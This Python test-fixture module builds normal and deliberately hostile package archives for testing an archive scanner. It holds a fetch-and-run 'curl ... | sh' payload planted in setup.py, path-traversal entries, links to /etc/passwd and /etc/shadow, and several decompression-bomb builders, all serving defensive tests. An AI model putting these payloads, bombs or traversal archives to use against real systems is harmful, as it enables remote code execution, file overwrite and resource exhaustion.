"""Builders of normal and hostile package archives, made in code (never taken from samples).

Every builder writes one file (or folder) under the directory it is given and returns its
path. Other test modules reuse them: ``from tests.core.archive.fixtures import make_wheel``.
Code inside the fixtures is inert text; any address in it is a documentation address.

Heavy hostile archives stay small on disk: a gzip stream may be several gzip members one after
another, so a few kilobytes of compressed zeros repeated make a gigabyte once inflated.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import os
import stat
import struct
import tarfile
import warnings
import zipfile
import zlib
from pathlib import Path

from app.sync import samples

SETUP_PY = 'from setuptools import setup\nsetup(name="{name}", version="{version}")\n'
MODULE_PY = 'def hello():\n    return "hello from {name}"\n'
EVIL_PY = 'import os\nos.system("curl http://192.0.2.1/x | sh")\n'


def pkg_info(name: str, version: str, metadata_version: str = "2.1") -> str:
    return f"Metadata-Version: {metadata_version}\nName: {name}\nVersion: {version}\nSummary: demo\n\nLong text.\n"


# --------------------------------------------------------------------------- tar helpers


def tar_bytes(entries: list[tuple], fmt: int = tarfile.PAX_FORMAT, end: bool = True) -> bytes:
    """An uncompressed tar. Entries: ``(name, data)`` regular files, or ``(TarInfo, data)``."""
    buf = io.BytesIO()
    with tarfile.open(
        fileobj=buf, mode="w", format=fmt, encoding="utf-8", errors="surrogateescape"
    ) as tar:
        for name, data in entries:
            info = name if isinstance(name, tarfile.TarInfo) else tarfile.TarInfo(name)
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    raw = buf.getvalue()
    if not end:  # drop the end-of-archive blocks (for streams that are concatenated)
        raw = raw.rstrip(b"\x00")
        raw += b"\x00" * (-len(raw) % 512)
    return raw


def compress(raw: bytes, compression: str) -> bytes:
    if compression in ("gz", "tgz"):
        return gzip.compress(raw, 6, mtime=0)
    if compression == "bz2":
        import bz2

        return bz2.compress(raw)
    if compression == "xz":
        import lzma

        return lzma.compress(raw)
    if compression == "":
        return raw
    raise ValueError(compression)


def _info(name: str, kind: bytes, linkname: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = linkname
    return info


# --------------------------------------------------------------------------- normal artifacts


def make_sdist(
    folder: Path,
    name: str = "demo",
    version: str = "1.0",
    compression: str = "gz",
    files: dict[str, bytes] | None = None,
    file_name: str | None = None,
) -> Path:
    """An sdist ``name-version.tar.{gz,bz2,xz}`` (or ``.tgz``) with its single top folder."""
    top = f"{name}-{version}"
    content = {
        "PKG-INFO": pkg_info(name, version).encode(),
        "setup.py": SETUP_PY.format(name=name, version=version).encode(),
        f"{name}/__init__.py": MODULE_PY.format(name=name).encode(),
    }
    content.update(files or {})
    raw = tar_bytes([(f"{top}/{path}", data) for path, data in content.items()])
    suffix = ".tgz" if compression == "tgz" else f".tar.{compression}"
    out = folder / (file_name or f"{top}{suffix}")
    out.write_bytes(compress(raw, compression))
    return out


def zip_bytes(entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are wanted in some fixtures
        with zipfile.ZipFile(buf, "w", method) as zf:
            for path, data in entries.items() if isinstance(entries, dict) else entries:
                zf.writestr(path, data)
    return buf.getvalue()


def make_sdist_zip(folder: Path, name: str = "demo", version: str = "1.0") -> Path:
    top = f"{name}-{version}"
    out = folder / f"{top}.zip"
    out.write_bytes(
        zip_bytes(
            {
                f"{top}/PKG-INFO": pkg_info(name, version).encode(),
                f"{top}/setup.py": SETUP_PY.format(name=name, version=version).encode(),
                f"{top}/{name}/__init__.py": MODULE_PY.format(name=name).encode(),
            }
        )
    )
    return out


def wheel_entries(
    name: str = "demo", version: str = "1.0", files: dict[str, bytes] | None = None
) -> dict[str, bytes]:
    dist = f"{name}-{version}.dist-info"
    content = {
        f"{name}/__init__.py": MODULE_PY.format(name=name).encode(),
        f"{dist}/METADATA": pkg_info(name, version).encode(),
        f"{dist}/WHEEL": b"Wheel-Version: 1.0\nGenerator: fixtures\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    content.update(files or {})
    content[f"{dist}/RECORD"] = "".join(f"{p},,\n" for p in content).encode()
    return content


def record_digests(entries: dict[str, bytes], dist: str) -> bytes:
    """A RECORD holding the real sha256 of every entry (urlsafe base64, as the wheel spec
    asks), as a build writes it; change an entry afterwards to make a mismatch."""
    rows = []
    for path, data in entries.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        rows.append(f"{path},sha256={digest},{len(data)}")
    rows.append(f"{dist}/RECORD,,")
    return ("\n".join(rows) + "\n").encode()


def make_wheel(
    folder: Path,
    name: str = "demo",
    version: str = "1.0",
    files: dict[str, bytes] | None = None,
    file_name: str | None = None,
) -> Path:
    """A wheel; ``file_name`` may lie (real wheels travel under ``.tar.gz`` names)."""
    out = folder / (file_name or f"{name}-{version}-py3-none-any.whl")
    out.write_bytes(zip_bytes(wheel_entries(name, version, files)))
    return out


def make_egg(folder: Path, name: str = "demo", version: str = "1.0") -> Path:
    out = folder / f"{name}-{version}-py3.11.egg"
    out.write_bytes(
        zip_bytes(
            {
                f"{name}/__init__.py": MODULE_PY.format(name=name).encode(),
                "EGG-INFO/PKG-INFO": pkg_info(name, version).encode(),
                "EGG-INFO/top_level.txt": f"{name}\n".encode(),
            }
        )
    )
    return out


def make_npm_tarball(
    folder: Path,
    name: str = "left-pad",
    version: str = "1.3.0",
    scripts: dict[str, str] | None = None,
    file_name: str | None = None,
) -> Path:
    """An npm tarball: everything under ``package/``."""
    doc = {"name": name, "version": version, "main": "index.js", "scripts": scripts or {}}
    raw = tar_bytes(
        [
            ("package/package.json", json.dumps(doc, indent=2).encode()),
            ("package/index.js", b"module.exports = function (s) { return s; };\n"),
            ("package/README.md", b"# demo\n"),
        ]
    )
    out = folder / (file_name or f"{name.replace('/', '-').lstrip('@')}-{version}.tgz")
    out.write_bytes(compress(raw, "gz"))
    return out


def make_directory(folder: Path, name: str = "demo", version: str = "1.0") -> Path:
    """An unpacked sdist: ``folder/name-version/{PKG-INFO,setup.py,name/__init__.py}``."""
    root = folder / f"{name}-{version}"
    (root / name).mkdir(parents=True)
    (root / "PKG-INFO").write_text(pkg_info(name, version))
    (root / "setup.py").write_text(SETUP_PY.format(name=name, version=version))
    (root / name / "__init__.py").write_text(MODULE_PY.format(name=name))
    return root


# --------------------------------------------------------------------------- sample zips


def zipcrypto_encrypt(data: bytes, crc: int, password: bytes) -> bytes:
    """Traditional PKWARE encryption (APPNOTE 6.1), 12-byte header included: the dataset
    sync's encryptor (itself checked against :mod:`zipfile` and ``unzip``), zero header bytes."""
    return samples.zipcrypto_encrypt(data, bytes(11), crc >> 24, password)


def raw_zip(entries: list[dict], comment: bytes = b"") -> bytes:
    """A zip written field by field, for what :mod:`zipfile` refuses to write.

    Entry keys: ``name`` (bytes), ``data`` (plain bytes), ``method`` (0 stored, 8 deflate),
    ``password`` (ZipCrypto), ``utf8`` (set the flag), ``declared`` (lie about the size),
    ``mode`` (unix st_mode for the external attributes), ``same_offset_as`` (index of an
    earlier entry whose local data this central entry points at: overlapping entries).
    """
    body = bytearray()
    central = bytearray()
    offsets: list[int] = []
    payloads: list[tuple[int, bytes]] = []
    for entry in entries:
        name, data = entry["name"], entry.get("data", b"")
        method = entry.get("method", 8)
        flags = 0x800 if entry.get("utf8") else 0
        if "same_offset_as" in entry:  # points at an earlier entry's bytes: reuse them
            crc, payload = payloads[entry["same_offset_as"]]
        else:
            crc = zlib.crc32(data) & 0xFFFFFFFF
            payload = data
            if method == 8:
                co = zlib.compressobj(6, zlib.DEFLATED, -15)
                payload = co.compress(data) + co.flush()
            if entry.get("password"):
                payload = zipcrypto_encrypt(payload, crc, entry["password"])
        if entry.get("password"):
            flags |= 0x1
        payloads.append((crc, payload))
        size = entry.get("declared", len(data))
        if "same_offset_as" in entry:
            offset = offsets[entry["same_offset_as"]]
        else:
            offset = len(body)
            body += (
                struct.pack(
                    "<IHHHHHIIIHH",
                    0x04034B50,
                    20,
                    flags,
                    method,
                    0,
                    0x21,
                    crc,
                    len(payload),
                    size,
                    len(name),
                    0,
                )
                + name
                + payload
            )
        offsets.append(offset)
        mode = entry.get("mode", stat.S_IFREG | 0o644)
        central += (
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                (3 << 8) | 20,
                20,
                flags,
                method,
                0,
                0x21,
                crc,
                len(payload),
                size,
                len(name),
                0,
                0,
                0,
                0,
                mode << 16,
                offset,
            )
            + name
        )
    count = min(len(entries), 0xFFFF)  # more needs zip64 records; zipfile reads on anyway
    eocd = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), len(body), len(comment)
    )
    return bytes(body + central + eocd + comment)


def make_sample_zip(
    folder: Path,
    inner: Path,
    password: bytes = b"infected",
    aes: bool = False,
    out_name: str | None = None,
) -> Path:
    """A dataset sample: the artifact file encrypted inside a zip (ZipCrypto or AES)."""
    out = folder / (out_name or f"sample-{inner.name}.zip")
    data = inner.read_bytes()
    if aes:
        import pyzipper

        with pyzipper.AESZipFile(
            out, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES
        ) as zf:
            zf.setpassword(password)
            zf.writestr(inner.name, data)
    else:
        out.write_bytes(
            raw_zip([{"name": inner.name.encode(), "data": data, "password": password}])
        )
    return out


def make_loose_sample_zip(
    folder: Path, sample_id: str = "loose-1.0", password: bytes = b"infected"
) -> Path:
    """A sample of loose files: ``id/id/...`` (an unpacked sdist), files encrypted."""
    name, version = sample_id.rsplit("-", 1)
    top = f"{sample_id}/{sample_id}/"
    files = {
        "PKG-INFO": pkg_info(name, version).encode(),
        "setup.py": EVIL_PY.encode(),
        f"{name}/__init__.py": MODULE_PY.format(name=name).encode(),
    }
    entries = [{"name": f"{sample_id}/".encode(), "method": 0}, {"name": top.encode(), "method": 0}]
    entries += [
        {"name": (top + p).encode(), "data": d, "password": password} for p, d in files.items()
    ]
    out = folder / f"{sample_id}.zip"
    out.write_bytes(raw_zip(entries))
    return out


# --------------------------------------------------------------------------- hostile archives

TRAVERSAL_NAMES = [
    "../evil.py",
    "/etc/cron.d/evil",
    "C:\\Windows\\evil.py",
    "a\\..\\..\\b.py",
    "pkg/../../up.py",
    "ok/../fine.py",
]


def make_traversal_tar(folder: Path) -> Path:
    out = folder / "traversal-1.0.tar.gz"
    out.write_bytes(compress(tar_bytes([(n, b"x = 1\n") for n in TRAVERSAL_NAMES]), "gz"))
    return out


def make_traversal_zip(folder: Path) -> Path:
    out = folder / "traversal-1.0.zip"
    out.write_bytes(raw_zip([{"name": n.encode(), "data": b"x = 1\n"} for n in TRAVERSAL_NAMES]))
    return out


def make_links_tar(folder: Path) -> Path:
    """Symlinks and hard links pointing outside, plus a regular file."""
    out = folder / "links-1.0.tar.gz"
    out.write_bytes(
        compress(
            tar_bytes(
                [
                    ("links-1.0/setup.py", b"print('hi')\n"),
                    (_info("links-1.0/passwd", tarfile.SYMTYPE, "/etc/passwd"), None),
                    (_info("links-1.0/up", tarfile.SYMTYPE, "../../../home"), None),
                    (_info("links-1.0/inside", tarfile.SYMTYPE, "setup.py"), None),
                    (_info("links-1.0/shadow", tarfile.LNKTYPE, "../../etc/shadow"), None),
                    (_info("links-1.0/again", tarfile.LNKTYPE, "links-1.0/setup.py"), None),
                ]
            ),
            "gz",
        )
    )
    return out


def make_links_zip(folder: Path) -> Path:
    out = folder / "links-1.0.zip"
    out.write_bytes(
        raw_zip(
            [
                {"name": b"setup.py", "data": b"print('hi')\n"},
                {
                    "name": b"passwd",
                    "data": b"/etc/passwd",
                    "mode": stat.S_IFLNK | 0o777,
                    "method": 0,
                },
                {"name": b"fifo", "data": b"", "mode": stat.S_IFIFO | 0o644, "method": 0},
                {"name": b"tty", "data": b"", "mode": stat.S_IFCHR | 0o644, "method": 0},
            ]
        )
    )
    return out


def make_devices_tar(folder: Path) -> Path:
    out = folder / "devices-1.0.tar"
    out.write_bytes(
        tar_bytes(
            [
                ("devices-1.0/setup.py", b"print('hi')\n"),
                (_info("devices-1.0/null", tarfile.CHRTYPE), None),
                (_info("devices-1.0/sda", tarfile.BLKTYPE), None),
                (_info("devices-1.0/pipe", tarfile.FIFOTYPE), None),
            ]
        )
    )
    return out


def make_hostile_directory(folder: Path) -> Path:
    """Symlinks (file, folder, dangling), a hard link pair and a FIFO inside a folder."""
    root = folder / "hostile-dir"
    (root / "pkg").mkdir(parents=True)
    (root / "setup.py").write_text("print('hi')\n")
    (root / "pkg" / "mod.py").write_text("x = 1\n")
    os.symlink("/etc/passwd", root / "passwd")
    os.symlink("/", root / "rootdir")
    os.symlink("../../nowhere", root / "pkg" / "dangling")
    os.link(root / "pkg" / "mod.py", root / "pkg" / "mod_again.py")
    os.mkfifo(root / "pipe")
    return root


def make_duplicates_zip(folder: Path) -> Path:
    out = folder / "dups-1.0.zip"
    out.write_bytes(
        zip_bytes(
            [
                ("setup.py", b"print('first')\n"),
                ("setup.py", b"print('second')\n"),
                ("pkg/a.py", b"a = 1\n"),
                ("pkg/./a.py", b"a = 2\n"),
            ]
        )
    )
    return out


def make_duplicates_tar(folder: Path) -> Path:
    out = folder / "dups-1.0.tar.gz"
    out.write_bytes(
        compress(
            tar_bytes(
                [
                    ("dups-1.0/setup.py", b"print('first')\n"),
                    ("dups-1.0/setup.py", b"print('second')\n"),
                ]
            ),
            "gz",
        )
    )
    return out


def make_zip_ratio_bomb(folder: Path, size: int = 64 * 1024**2) -> Path:
    """One member of zeros: ~1000:1, far above any real package's ratio."""
    out = folder / "ratio-bomb.zip"
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("setup.py", b"print('hi')\n")
        with zf.open("zeros.bin", "w", force_zip64=True) as fh:
            block = bytes(1024**2)
            for _ in range(size // len(block)):
                fh.write(block)
    return out


def make_zip_overlap_bomb(folder: Path, copies: int = 1000) -> Path:
    """Many central entries pointing at one compressed kernel (Fifield's overlapping bomb)."""
    kernel = bytes(1024**2)
    entries = [{"name": b"kernel.bin", "data": kernel}]
    entries += [
        {"name": f"copy{i}.bin".encode(), "data": kernel, "same_offset_as": 0}
        for i in range(copies)
    ]
    out = folder / "overlap-bomb.zip"
    out.write_bytes(raw_zip(entries))
    return out


def make_zip_lying_sizes(folder: Path, declared: int = 2 * 1024**3, count: int = 4) -> Path:
    """Entries that declare gigabytes each (the total is refused before anything is read)."""
    entries = [
        {"name": f"big{i}.bin".encode(), "data": b"tiny", "declared": declared, "method": 0}
        for i in range(count)
    ]
    out = folder / "lying-sizes.zip"
    out.write_bytes(raw_zip(entries))
    return out


def repeated_gzip(raw: bytes, times: int) -> bytes:
    """``times`` copies of one gzip member: inflates to ``len(raw) * times`` bytes."""
    return gzip.compress(raw, 9, mtime=0) * times


def make_tar_zero_bomb(folder: Path, size: int = 1400 * 1024**2) -> Path:
    """A tar.gz whose one member is ``size`` bytes of zeros (under the per-member limit)."""
    header = tarfile.TarInfo("bomb-1.0/zeros.bin")
    header.size = size
    chunk = 16 * 1024**2
    out = folder / "zero-bomb-1.0.tar.gz"
    out.write_bytes(
        gzip.compress(header.tobuf(tarfile.USTAR_FORMAT), mtime=0)
        + repeated_gzip(bytes(chunk), size // chunk)
    )
    return out


def make_gzip_zeros_small_claims(folder: Path, zeros: int = 1024**3) -> Path:
    """One small member, then a gigabyte of zeros: the reader must stop at the end marker."""
    head = tar_bytes([("small-1.0/a.py", b"a = 1\n")], end=False)
    chunk = 16 * 1024**2
    out = folder / "small-1.0.tar.gz"
    out.write_bytes(gzip.compress(head, mtime=0) + repeated_gzip(bytes(chunk), zeros // chunk))
    return out


def make_many_members_tar(folder: Path, count: int = 1_000_000, block: int = 10_000) -> Path:
    """A tar.gz of ``count`` empty members (one gzip member of ``block`` headers, repeated)."""
    headers = b"".join(
        tarfile.TarInfo(f"many-1.0/f{i:07d}").tobuf(tarfile.USTAR_FORMAT) for i in range(block)
    )
    out = folder / "many-1.0.tar.gz"
    out.write_bytes(repeated_gzip(headers, count // block))
    return out


def make_pax_header_bomb(folder: Path, size: int = 1024**3) -> Path:
    """A pax extended header claiming a gigabyte (tarfile would read it all into memory)."""
    info = tarfile.TarInfo("././@PaxHeader")
    info.type = tarfile.XHDTYPE
    info.size = size
    chunk = 16 * 1024**2
    out = folder / "pax-bomb-1.0.tar.gz"
    out.write_bytes(
        gzip.compress(info.tobuf(tarfile.USTAR_FORMAT), mtime=0)
        + repeated_gzip(b"9" * chunk, size // chunk)
    )
    return out


def make_truncated_tar_gz(folder: Path) -> Path:
    big = os.urandom(200_000)
    raw = tar_bytes(
        [
            ("trunc-1.0/setup.py", b"print('hi')\n"),
            ("trunc-1.0/blob.bin", big),
            ("trunc-1.0/after.py", b"x = 1\n"),
        ]
    )
    data = compress(raw, "gz")
    out = folder / "trunc-1.0.tar.gz"
    out.write_bytes(data[: len(data) // 2])
    return out


def make_corrupt_zip(folder: Path) -> Path:
    data = zip_bytes(wheel_entries("corrupt", "1.0"))
    out = folder / "corrupt-1.0-py3-none-any.whl"
    out.write_bytes(data[: len(data) - 30])  # end of central directory cut off
    return out


def make_crc_damaged_zip(folder: Path) -> Path:
    """A readable directory, but one member's bytes damaged (bad CRC)."""
    entries = [
        {"name": b"ok.py", "data": b"ok = 1\n", "method": 0},
        {"name": b"bad.py", "data": b"bad = 1\n", "method": 0},
    ]
    data = bytearray(raw_zip(entries))
    pos = data.find(b"bad = 1")
    data[pos] = ord("B")
    out = folder / "crc-1.0.zip"
    out.write_bytes(bytes(data))
    return out


def make_nested(folder: Path) -> Path:
    """A zip holding a wheel holding a zip: opened one level deep, the deeper one recorded."""
    deeper = zip_bytes({"deep/secret.py": EVIL_PY.encode()})
    inner = zip_bytes(
        wheel_entries(
            "inner", "2.0", {"inner/deeper.zip": deeper, "inner/mod.py": EVIL_PY.encode()}
        )
    )
    out = folder / "outer-1.0.zip"
    out.write_bytes(
        zip_bytes(
            {
                "setup.py": SETUP_PY.format(name="outer", version="1.0").encode(),
                "vendor/inner-2.0-py3-none-any.whl": inner,
                "data/table.csv.gz": gzip.compress(b"a,b\n1,2\n", mtime=0),
            }
        )
    )
    return out


def make_bad_names_zip(folder: Path) -> Path:
    out = folder / "names-1.0.zip"
    out.write_bytes(
        raw_zip(
            [
                {"name": b"nul\x00.py", "data": b"a = 1\n"},
                {"name": b"caf\xe9\xff.py", "data": b"b = 2\n"},  # not UTF-8, no UTF-8 flag
                {"name": "ünïcode.py".encode(), "data": b"c = 3\n", "utf8": True},
                {"name": b"\x1b[31mred\x1b[0m.py", "data": b"d = 4\n"},
                {"name": "rtl\u202eyp.txt".encode(), "data": b"e = 5\n", "utf8": True},
            ]
        )
    )
    return out


def make_bad_names_tar(folder: Path) -> Path:
    long_nul = "names-1.0/" + "x" * 120 + "\x00hidden.py"  # too long for ustar: a pax record
    out = folder / "names-1.0.tar.gz"
    out.write_bytes(
        compress(
            tar_bytes(
                [
                    (
                        "names-1.0/caf\udce9\udcff.py",
                        b"a = 1\n",
                    ),  # surrogateescape: raw bytes e9 ff
                    (long_nul, b"b = 2\n"),
                    ("names-1.0/ok.py", b"c = 3\n"),
                ]
            ),
            "gz",
        )
    )
    return out


def make_long_line(folder: Path, size: int = 100 * 1024**2, kind: str = "tar") -> Path:
    """A ``size``-byte single-line text file (hex, so it does not compress like a bomb)."""
    line = os.urandom(size // 2).hex().encode()
    if kind == "tar":
        out = folder / "longline-1.0.tar"
        with tarfile.open(out, "w", format=tarfile.PAX_FORMAT) as tar:
            info = tarfile.TarInfo("longline-1.0/dist/app.min.js")
            info.size = len(line)
            tar.addfile(info, io.BytesIO(line))
    else:
        out = folder / "longline-1.0.zip"
        with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
            zf.writestr("dist/app.min.js", line)
    return out


def make_zip_many_entries(folder: Path, count: int, lie_about_count: bool = True) -> Path:
    """A zip of ``count`` empty entries whose end record claims one (zipfile ignores it)."""
    data = bytearray(raw_zip([{"name": f"e{i}".encode(), "method": 0} for i in range(count)]))
    if lie_about_count:
        end = data.rfind(b"PK\x05\x06")
        data[end + 8 : end + 12] = struct.pack("<HH", 1, 1)
    out = folder / "many-entries.zip"
    out.write_bytes(bytes(data))
    return out


def make_gzip_long_file_name(folder: Path, name_bytes: int = 20 * 1024**2) -> Path:
    """A tar.gz whose gzip header carries a ``name_bytes``-long "original file name" field."""
    raw = tar_bytes([("fname-1.0/a.py", b"a = 1\n")])
    co = zlib.compressobj(6, zlib.DEFLATED, -15)
    body = co.compress(raw) + co.flush()
    header = b"\x1f\x8b\x08\x08" + bytes(4) + b"\x00\x03" + b"N" * name_bytes + b"\x00"
    trailer = struct.pack("<II", zlib.crc32(raw) & 0xFFFFFFFF, len(raw) & 0xFFFFFFFF)
    out = folder / "fname-1.0.tar.gz"
    out.write_bytes(header + body + trailer)
    return out
